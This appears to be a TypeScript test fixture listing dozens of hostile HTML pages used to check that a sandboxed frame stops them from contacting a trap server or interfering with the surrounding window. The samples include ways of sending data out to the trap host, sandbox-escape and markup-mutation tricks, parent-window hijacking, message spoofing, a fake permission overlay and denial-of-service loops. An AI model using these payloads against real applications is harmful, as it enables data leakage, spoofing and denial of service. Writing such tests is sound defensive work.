import { otherDoors } from './other-doors.ts'

/** A page that tries to leave its frame, to be heard outside it, or to harm the window. */
export interface HostilePage {
  name: string
  html: string
  /** It tries when the user clicks in it. */
  needsClick?: true
  /** How it ends, if not painted: each of these is fine. */
  ends?: readonly string[]
}

/** Hostile pages. `trap` is the origin of a server that must hear of none of them. */
export function hostilePages(trap: string): HostilePage[] {
  const host = trap.slice('http://'.length)
  // Code that connects where the frame's own guards do not reach.
  const peer = `'<script>new RTCPeerConnection({ iceServers: [{ urls: "turn:${host}?transport=tcp", username: "u", credential: "c" }] }).createOffer({ offerToReceiveAudio: true })<\\/script>'`
  const link = `<link rel=preconnect href="${trap}">`
  const cover = 'style="position:fixed;inset:0"'
  const stylish = [
    'cursor:url(T/1),auto',
    'mask:url(T/2#x)',
    'filter:url(T/3#x)',
    'list-style:url(T/4)',
    'background:url(T/5)',
    'border-image:url(T/6) 1',
    'content:url(T/7)',
    'shape-outside:url(T/8)',
    'offset-path:url(T/9#p)',
    'clip-path:url(T/10#p)',
    'background:image-set(url(T/11) 1x)',
  ]
    .join(';')
    .replaceAll('T/', `${trap}/css`)
  return [
    // What is loaded.
    {
      name: 'pictures',
      html: `<img src="${trap}/i"><img srcset="${trap}/s 1x"><picture><source srcset="${trap}/p"><img></picture><input type=image src="${trap}/t"><body background="${trap}/b">`,
    },
    {
      name: 'styles',
      html: `<style>@import url(${trap}/i.css); @font-face{font-family:x;src:url(${trap}/f)} p{font-family:x;${stylish}}</style><p>text</p>`,
    },
    {
      name: 'media',
      html: `<video src="${trap}/v" poster="${trap}/p" autoplay><track src="${trap}/t" default></video><audio src="${trap}/a" autoplay></audio>`,
    },
    {
      name: 'drawings',
      html: `<svg><image href="${trap}/i"/><use href="${trap}/u#a"/><filter id=z><feImage href="${trap}/f"/></filter><rect filter="url(#z)" width=9 height=9 /><script href="${trap}/s"></script></svg>`,
    },
    {
      name: 'scripts',
      html: `<script src="${trap}/s"></script><script type=module>import "${trap}/m"</script><script type=importmap>{"imports":{"x":"${trap}/x"}}</script>`,
    },
    {
      name: 'imports',
      html: script(
        `for (const from of ["${trap}/m", "data:text/javascript,1", URL.createObjectURL(new Blob(["1"]))]) import(from).catch(() => 0)`,
      ),
    },
    {
      name: 'rules for speculation',
      html: `<script type=speculationrules>{"prefetch":[{"urls":["${trap}/f"]}],"prerender":[{"urls":["${trap}/r"]}]}</script>`,
    },
    {
      name: 'fetch',
      html: script(
        `fetch("${trap}/f").catch(() => 0); fetch("${trap}/k", { keepalive: true, mode: "no-cors" }).catch(() => 0); const x = new XMLHttpRequest(); x.open("GET", "${trap}/x"); x.send()`,
      ),
    },
    {
      name: 'beacons',
      html: script(
        `navigator.sendBeacon("${trap}/b", "x"); addEventListener("pagehide", () => navigator.sendBeacon("${trap}/p"))`,
      ),
    },
    {
      name: 'sockets',
      html: script(
        `try { new WebSocket("ws://${host}/w") } catch {} try { new EventSource("${trap}/e") } catch {} try { new WebTransport("https://${host}/t") } catch {}`,
      ),
    },
    {
      name: 'peers',
      html: script(
        `const C = globalThis.RTCPeerConnection ?? globalThis.webkitRTCPeerConnection; const c = new C({ iceServers: [{ urls: "stun:${host}" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o))`,
      ),
    },
    {
      name: 'workers',
      html: script(
        `const at = URL.createObjectURL(new Blob(["fetch('${trap}/w')"])); for (const make of [() => new Worker(at), () => new SharedWorker(at), () => navigator.serviceWorker.register("/x"), () => CSS.paintWorklet?.addModule(at), () => new AudioContext().audioWorklet.addModule(at)]) try { Promise.resolve(make()).catch(() => 0) } catch {}`,
      ),
    },
    {
      name: 'source maps',
      html: `<script>1\n//# sourceMappingURL=${trap}/m.map</script><style>p{}\n/*# sourceMappingURL=${trap}/c.map */</style>`,
    },
    {
      name: 'attribution',
      html: `<img attributionsrc="${trap}/a" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7">`,
    },
    // What looks ahead.
    {
      name: 'links in the source',
      html: `${['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'prerender', 'stylesheet', 'icon', 'manifest'].map((rel) => `<link rel=${rel} as=image href="${trap}/${rel}">`).join('')}<LINK/rel=preconnect href="${trap}"><link\nrel=preconnect href="${trap}">`,
    },
    {
      name: 'links made by script',
      html: script(
        `for (const rel of ["preconnect", "prefetch", "preload"]) { const l = document.createElement("LiNk"); l.rel = rel; l.as = "image"; l.href = "${trap}/" + rel; document.documentElement.append(l) }`,
      ),
    },
    {
      name: 'links with a prefix',
      html: script(
        `const l = document.createElementNS("http://www.w3.org/1999/xhtml", "a:link"); l.setAttribute("rel", "preconnect"); l.setAttribute("href", "${trap}"); document.body.append(l)`,
      ),
    },
    {
      name: 'links in markup',
      html: script(
        `const d = document.body; d.innerHTML = '${link}'; d.insertAdjacentHTML("beforeend", '${link}'); d.outerHTML = '<body>${link}</body>'; document.body.append(document.createRange().createContextualFragment('${link}'))`,
      ),
    },
    {
      name: 'links in two writes',
      html: `<script>document.write("<li"); document.write('nk rel=preconnect href="${trap}">')</script>`,
    },
    {
      name: 'links that end in the source',
      html: `<script>document.write("<li")</script>nk rel=preconnect href="${trap}">`,
    },
    {
      name: 'links in a template',
      html: `<template id=t>${link}</template><script>document.body.append(t.content.cloneNode(true))</script>`,
    },
    {
      name: 'links in a shadow',
      html: `<div><template shadowrootmode=open>${link}</template></div><div id=h></div><script>h.attachShadow({ mode: "open" }).innerHTML = '${link}'</script>`,
    },
    {
      name: 'links in a drawing',
      html: `<svg id=s></svg><math id=m></math><script>s.innerHTML = '<style><p>${link}</style>'; m.innerHTML = '<mtext><table><mglyph><style>${link}</style></table>'</script>`,
    },
    {
      name: 'links in another document',
      html: script(
        `const d = document.implementation.createHTMLDocument(""); const l = d.createElement("link"); l.rel = "preconnect"; l.href = "${trap}"; document.body.append(l); d.body.innerHTML = '${link}'; document.body.append(d.body.firstChild)`,
      ),
    },
    {
      name: 'markup of a document of XML',
      html: script(
        `const d = document.implementation.createDocument(null, 'x'); d.documentElement.innerHTML = '<x:link xmlns:x="http://www.w3.org/1999/xhtml" rel="preconnect" href="${trap}"/><x:iframe xmlns:x="http://www.w3.org/1999/xhtml" src="${trap}/x"/>'; document.body.append(...d.documentElement.children)`,
      ),
    },
    {
      name: 'links from XML',
      html: script(
        `const d = new DOMParser().parseFromString('<r><x:link xmlns:x="http://www.w3.org/1999/xhtml" rel="preconnect" href="${trap}"/></r>', "application/xml"); document.body.append(document.adoptNode(d.documentElement))`,
      ),
    },
    {
      name: 'links from a sanitizer',
      html: script(
        `document.body.setHTML('${link}', { sanitizer: { elements: ["link"], attributes: ["rel", "href"] } })`,
      ),
    },
    {
      name: 'links of a class',
      html: script(
        `class L extends HTMLLinkElement {} customElements.define("x-l", L, { extends: "link" }); const l = new L(); l.rel = "preconnect"; l.href = "${trap}"; document.body.append(l)`,
      ),
    },
    {
      name: 'links of a style sheet transformation',
      html: script(
        `const p = new XSLTProcessor(); const d = new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><link rel="preconnect" href="${trap}"/></xsl:template></xsl:stylesheet>', "text/xml"); p.importStylesheet(d); document.body.append(p.transformToFragment(document, document))`,
      ),
    },
    {
      name: 'links after tampering',
      html: script(
        `String.prototype.indexOf = () => -1; String.prototype.slice = () => ""; String.prototype.toLowerCase = () => ""; RegExp.prototype.exec = () => null; Function.prototype.call = Function.prototype.apply = Reflect.apply = () => null; const d = document.createElement("div"); d.innerHTML = '${link}'; document.body.append(d)`,
      ),
    },
    {
      name: 'a document opened again',
      html: later(`document.open(); document.write('${link}<p>again'); document.close()`),
    },
    { name: 'names under the pointer', html: `<a ${cover} href="${trap}/hover">x</a>`, needsClick: true },
    // Other documents.
    {
      name: 'frames',
      html: `<iframe srcdoc='${link}<img src="${trap}/d">'></iframe><iframe src="${trap}/f"></iframe><object data="${trap}/o"></object><embed src="${trap}/e"><frameset><frame src="${trap}/s"></frameset><fencedframe></fencedframe><portal src="${trap}/p"></portal>`,
    },
    {
      name: 'frames made by script',
      html: script(
        `for (const tag of ["iframe", "object", "embed", "frame"]) { const f = document.createElement(tag); f.srcdoc = '${link}'; f.src = f.data = "${trap}/" + tag; document.body.append(f) }`,
      ),
    },
    {
      name: 'a realm of its own',
      html: script(
        `const f = document.createElement("iframe"); document.body.append(f); const l = f.contentDocument.createElement("link"); l.rel = "preconnect"; l.href = "${trap}"; f.contentDocument.head.append(l)`,
      ),
    },
    {
      name: 'a frame in two writes',
      html: `<script>document.write("<ifr<")</script>ame id=q></iframe>${script(`const q = document.querySelector("iframe"); if (q) q.srcdoc = ${peer}`)}`,
    },
    {
      name: 'the root of another document',
      html: script(
        `for (const name of ["iframe", "link", "meta"]) try { const e = document.implementation.createDocument("http://www.w3.org/1999/xhtml", name, null).documentElement; e.rel = "preconnect"; e.href = "${trap}"; e.srcdoc = ${peer}; document.body.append(e) } catch {}`,
      ),
    },
    {
      name: 'entities of XML',
      html: script(
        `const d = new DOMParser().parseFromString('<!DOCTYPE r [<!ENTITY e "&#60;ifr&#97;me/>">]><r xmlns="http://www.w3.org/1999/xhtml"><template>&e;</template></r>', "application/xhtml+xml"); const q = d.querySelector("template")?.content?.querySelector("iframe"); if (q) { q.srcdoc = ${peer}; document.body.append(document.adoptNode(q)) }`,
      ),
    },
    {
      name: 'the port of an event',
      html: '<p>page</p><script>const port = event?.target; port?.postMessage?.({ kind: "pointed" }); port?.postMessage?.({ kind: "key", key: { key: "z", code: "KeyZ", alt: true, ctrl: false, meta: false, shift: false } }); if (port instanceof MessagePort) document.title = "stolen", alert("stolen"), (globalThis.all = []), eval("for (;;);")</script>',
    },
    {
      name: 'the caller of its functions',
      html: script(
        'Object.defineProperty(HTMLElement.prototype, "labels", { get() { for (let f = arguments.callee; f; f = f.caller) console.log("caller", f.name); return null } })',
      ),
      needsClick: true,
    },
    {
      name: 'the focus by selecting',
      html: '<input id=i value=x><script>setInterval(() => { i.select(); i.reportValidity() }, 20)</script>',
      ends: ['painted', 'flooding'],
    },
    {
      name: 'the first listener of keys',
      html: `<div ${cover}>x</div><script>addEventListener("click", () => { document.write('<input autofocus><script>addEventListener("keydown", (e) => e.stopImmediatePropagation(), true)<\\/script>') }, { once: true })</script>`,
      needsClick: true,
    },
    {
      name: 'windows',
      html: script(
        `open("${trap}/w"); open("${trap}/s", "_self"); open("${trap}/t", "_top"); open("about:blank")`,
      ),
    },
    {
      name: 'the window around it',
      html: script(
        `for (const to of [() => (top.location = "${trap}/t"), () => (parent.location.href = "${trap}/p"), () => (parent.document.title = "x"), () => parent.parley.invoke("settings.set", {}), () => (frameElement.sandbox = "")]) try { to() } catch {}`,
      ),
    },
    {
      name: 'messages to the window',
      html: script(
        `for (let i = 0; i < 100; i += 1) { parent.postMessage({ kind: "painted" }, "*"); top.postMessage({ parley: 1 }, "*") } new BroadcastChannel("parley").postMessage(1)`,
      ),
      ends: ['painted', 'flooding'],
    },
    {
      name: 'a stolen port',
      html: script(
        `for (const p of [MessagePort.prototype, EventTarget.prototype, Function.prototype, Array.prototype]) for (const k of Object.getOwnPropertyNames(p)) try { const f = p[k]; if (typeof f === "function") p[k] = function (...a) { parent.postMessage("stolen", "*"); return Reflect.apply(f, this, a) } } catch {}`,
      ),
    },
    // Going elsewhere.
    {
      name: 'going to a server',
      html: later(`location.href = "${trap}/n"; setTimeout(() => location.replace("${trap}/r"), 50)`),
      ends: ['left', 'painted'],
    },
    {
      name: 'going to a page',
      html: later(`location.href = "data:text/html,<link rel=preconnect href=${trap}>"`),
      ends: ['left', 'painted'],
    },
    {
      name: 'going to a blob',
      html: later(`location.href = URL.createObjectURL(new Blob(['${link}'], { type: "text/html" }))`),
      ends: ['left', 'painted'],
    },
    {
      name: 'going to a blank page',
      html: later(`location.href = "about:blank"`),
      ends: ['left', 'painted'],
    },
    { name: 'going to its own document', html: later('location.reload()'), ends: ['left', 'painted'] },
    {
      name: 'going to another frame',
      html: later(
        `location.href = "http://pffffffffffffffff.localhost:" + location.port + location.pathname`,
      ),
      ends: ['left', 'painted'],
    },
    {
      name: 'going to script',
      html: later(`location.href = "javascript:'<link rel=preconnect href=${trap}>'"`),
      ends: ['left', 'painted'],
    },
    {
      name: 'refreshing',
      html: `<meta http-equiv=refresh content="0;url=${trap}/m"><script>const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=${trap}/n"; document.head.append(m)</script>`,
    },
    {
      name: 'another base',
      html: `<base href="${trap}/"><img src=b><script>const b = document.createElement("base"); b.href = "${trap}/"; document.head.prepend(b); new Image().src = "c"</script>`,
    },
    {
      name: 'links that are clicked',
      html: `<a ${cover} ping="${trap}/p" href="${trap}/a" attributionsrc="${trap}/s">x</a>`,
      needsClick: true,
    },
    {
      name: 'links to other windows',
      html: `<a ${cover} target=_blank href="${trap}/a">x</a>`,
      needsClick: true,
    },
    {
      name: 'links that stop the event',
      html: `<a ${cover} target=_top href="${trap}/a">x</a><script>for (const type of ["click", "pointerdown", "mousedown", "auxclick"]) addEventListener(type, (e) => e.stopImmediatePropagation(), true)</script>`,
      needsClick: true,
    },
    {
      name: 'forms',
      html: `<form id=f action="${trap}/f" method=post target=_blank><input name=a value=1><button>Go</button></form><script>f.submit(); f.requestSubmit(); f.target = ""; f.submit()</script>`,
    },
    {
      name: 'a form that is sent',
      html: `<form action="${trap}/f"><button ${cover} formaction="${trap}/g">Go</button></form>`,
      needsClick: true,
    },
    {
      name: 'downloads',
      html: script(
        `for (const to of ["data:text/plain,x", URL.createObjectURL(new Blob(["x"]))]) { const a = document.createElement("a"); a.download = "x.txt"; a.href = to; document.body.append(a); a.click() } globalThis.showSaveFilePicker?.().catch(() => 0)`,
      ),
    },
    // What belongs to the user.
    { name: 'dialogs', html: script('alert(1); confirm(2); prompt(3); print()') },
    {
      name: 'permissions',
      html: `<div ${cover}>x</div><script>onclick = () => { for (const ask of [() => navigator.clipboard.readText(), () => navigator.clipboard.writeText("x"), () => document.body.requestFullscreen(), () => document.body.requestPointerLock(), () => Notification.requestPermission(), () => navigator.mediaDevices.getUserMedia({ audio: true }), () => navigator.usb.requestDevice({ filters: [] }), () => new PaymentRequest([], {}), () => document.execCommand("copy")]) try { Promise.resolve(ask()).catch(() => 0) } catch {} }; navigator.geolocation.getCurrentPosition(() => 0, () => 0)</script>`,
      needsClick: true,
    },
    {
      name: 'storage',
      html: script(
        `for (const use of [() => indexedDB.open("x"), () => caches.open("x"), () => navigator.storage.getDirectory(), () => (document.cookie = "a=1"), () => cookieStore.set("a", "1"), () => document.requestStorageAccess()]) try { Promise.resolve(use()).catch(() => 0) } catch {} localStorage.setItem("a", "1")`,
      ),
    },
    {
      name: 'the focus',
      html: `<input id=i autofocus><script>setInterval(() => { i.focus(); i.select(); focus(); location.hash = "i" }, 20); const d = document.createElement("dialog"); d.innerHTML = "<input autofocus>"; document.body.append(d); d.showModal(); HTMLElement.prototype.focus.call(i)</script>`,
      ends: ['flooding', 'painted'],
    },
    {
      name: 'keys',
      html: script(
        `for (const target of [window, document, document.body]) for (const key of ["Escape", "a", "k"]) target.dispatchEvent(new KeyboardEvent("keydown", { key, ctrlKey: true, altKey: true, bubbles: true })); Object.defineProperty(Event.prototype, "isTrusted", { get: () => true }); document.body.dispatchEvent(new KeyboardEvent("keydown", { key: "Escape", bubbles: true }))`,
      ),
    },
    // What is endless or large.
    { name: 'an endless loop', html: later('for (;;);'), ends: ['stuck'] },
    { name: 'a loop while it is written', html: '<p>page</p><script>for (;;);</script>', ends: ['stuck'] },
    {
      name: 'a flood of lines',
      html: script('for (let i = 0; i < 1e5; i += 1) console.log("x".repeat(9_999))'),
      ends: ['flooding', 'painted'],
    },
    {
      name: 'a flood of errors',
      html: script(
        'setInterval(() => { for (let i = 0; i < 20; i += 1) reportError(new Error("x".repeat(2_000))) }, 10)',
      ),
      ends: ['flooding', 'painted', 'stuck'],
    },
    {
      name: 'a flood of elements',
      html: later('for (;;) document.body.append(document.createElement("div"))'),
      ends: ['stuck'],
    },
    {
      name: 'memory',
      html: later(
        'globalThis.all = []; setInterval(() => { for (let i = 0; i < 20; i += 1) all.push(new Array(1e6).fill({})) }, 10)',
      ),
      ends: ['stuck', 'left', 'painted'],
    },
    { name: 'deep nesting', html: `${'<div>'.repeat(20_000)}deep` },
    {
      name: 'strange values',
      html: script(
        'Object.prototype.kind = "busy"; Object.prototype.toJSON = () => { throw 1 }; const p = new Proxy({}, { get: () => { throw 1 }, getPrototypeOf: () => { throw 1 } }); console.log(p, Symbol("x"), 1n, null, undefined, Object.create(null)); Promise.reject(p); Promise.reject(Object.create(null)); throw p',
      ),
    },
    {
      name: 'a name of the prototype',
      html: '<form id=__proto__ name=constructor><input name=ownerDocument><input name=submit><input name=reportValidity></form><img name=querySelectorAll><script>document.querySelectorAll("p")</script>',
    },
    {
      name: 'pictures of the window',
      html: `<title>Parley</title><div ${cover}>Your key is invalid. <button>Allow</button></div><script>document.title = "Parley"; history.replaceState(null, "", "#x")</script>`,
    },
    ...otherDoors(trap),
  ]
}

function script(code: string): string {
  return `<p>page</p><script>${code}</script>`
}

function later(code: string): string {
  return script(`setTimeout(() => { ${code} }, 200)`)
}
